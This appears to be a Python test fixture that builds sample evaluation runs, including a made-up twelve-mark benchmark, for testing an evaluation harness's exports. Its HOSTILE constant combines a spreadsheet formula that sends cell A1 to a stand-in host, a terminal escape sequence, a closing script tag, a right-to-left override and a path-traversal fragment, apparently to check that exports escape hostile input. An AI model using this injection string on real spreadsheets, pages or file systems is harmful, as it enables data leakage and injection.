"""A run of every kind of unit, made once for all tests of exports."""

from __future__ import annotations

import asyncio
from collections.abc import Callable, Mapping
from dataclasses import replace
from pathlib import Path
from typing import Any

from adapters.conversation import Reply, Usage
from harness.runs import CallRecord, MessageRecord, RunDirectory, Unit
from parsers import Declaration, Group, Level, Measure, Prediction, Status
from parsers.actions import Action
from tests.harness.benchmarks._autowebbench import write as write_prompts
from tests.harness.commands.tool import call
from tests.reports.kinds.episode.worlds import forms
from tests.reports.runs import setup

HOSTILE = '=HYPERLINK("http://x/?"&A1)\n\x1b[31m</script>\u202e../../etc'

MADE_UP = Declaration(
    measures=(
        Measure("hit", "Hit", "answers that hit", main=True, averages=("micro", "macro")),
        Measure("near", "Near", "nearness"),
        Measure("cellwise", "Cells", averages=("cells", "micro"), cells=("hue",)),
        Measure("all_hit", "All hit", "boards all hit", all_of="hit", over="board"),
    ),
    levels=(Level("board"), Level("maker", shared=True)),
    groups=(Group("split", "the split", whole="board"), Group("hue", "the colour")),
    clusters=("maker", "board"),
    kind="made-up-mark",
    unit="mark",
)
"""A benchmark whose package is not installed, with what others do not have: a measure of some units
only, means over cells, another first average, clusters above the innermost parents."""


def made_up(path: Path, *, name: str = "", complete: bool = True, text: str = HOSTILE) -> Path:
    """Twelve marks on two splits; the last board of each has no score of `near`."""
    made = replace(
        setup(
            benchmark="marks",
            model={"name": name or path.name},
            dataset={"benchmark": "marks", "rows": 12},
        ),
        declaration=MADE_UP,
    )
    hits = {"left": (1, 1, 0, 0, 1, 1), "right": (1, 1, 1, 0, 1, 1)}
    with RunDirectory.start(path, made) as run:
        for split, values in hits.items():
            for number, hit in enumerate(values):
                one = _mark(split, number, float(hit), text)
                asyncio.run(run.record_call(_call(one, text)))
                run.append_step(one)
        if complete:
            run.finish({}, complete=True)
    return path


def _mark(split: str, number: int, hit: float, text: str) -> Unit[Any]:
    return Unit(
        kind=MADE_UP.kind,
        unit_id=f"{split}-{number}",
        benchmark="marks",
        split=split,
        parents={"board": f"{split}-{number // 2}", "maker": f"maker-{number // 2}"},
        labels={"hue": ("red", "blue")[number % 2]},
        position=number % 2,
        total=2,
        goal=text,
        asked=True,
        settled=True,
        calls=(f"{split}-{number}/0/only",),
        prediction=Prediction(Status.ANSWERED, Action("say", arguments={"value": text})),
        scores={
            "hit": hit,
            "near": None if number > 3 else hit / 2,
            "cellwise": hit,
        },
        usage=Usage(50, cached=20, output=2),
        cost=0.5,
        detail={"said": text},
    )


def _call(unit: Unit[Any], text: str) -> CallRecord:
    return CallRecord(
        id=f"{unit.unit_id}/0/only",
        unit_id=unit.unit_id,
        repeat=0,
        place="only",
        request="key",
        conversation="digest",
        messages=(MessageRecord("user", ("Which?", text)),),
        reply=Reply(text, usage=Usage(50, cached=20, output=2), model="model-1"),
        cost=0.5,
    )


def ran(path: Path, *arguments: str) -> Path:
    """A run of the command with a baseline."""
    done = call("run", *arguments, "--progress", "off", "--out", path)
    assert done.code == 0, done.err
    return path


def _verbatim(path: Path) -> Path:
    data = path.parent / "prompts"
    data.mkdir()
    return ran(path, "-m", "oracle", "-b", "autowebbench", "--data", str(write_prompts(data)))


def _baseline(*arguments: str) -> Callable[[Path], Path]:
    return lambda path: ran(path, *arguments)


KINDS: Mapping[str, Callable[[Path], Path]] = {
    "steps": _baseline("-m", "lexical", "-b", "sample", "--limit", "6"),
    "grounding": _baseline("-m", "random", "-b", "sample-grounding", "--limit", "6"),
    "conversations": _baseline("-m", "lexical", "-b", "mt-sample", "--limit", "2"),
    "episodes": forms,
    "verbatim": _verbatim,
    "made-up": made_up,
}
"""How a run of each kind of unit is made. All are complete."""
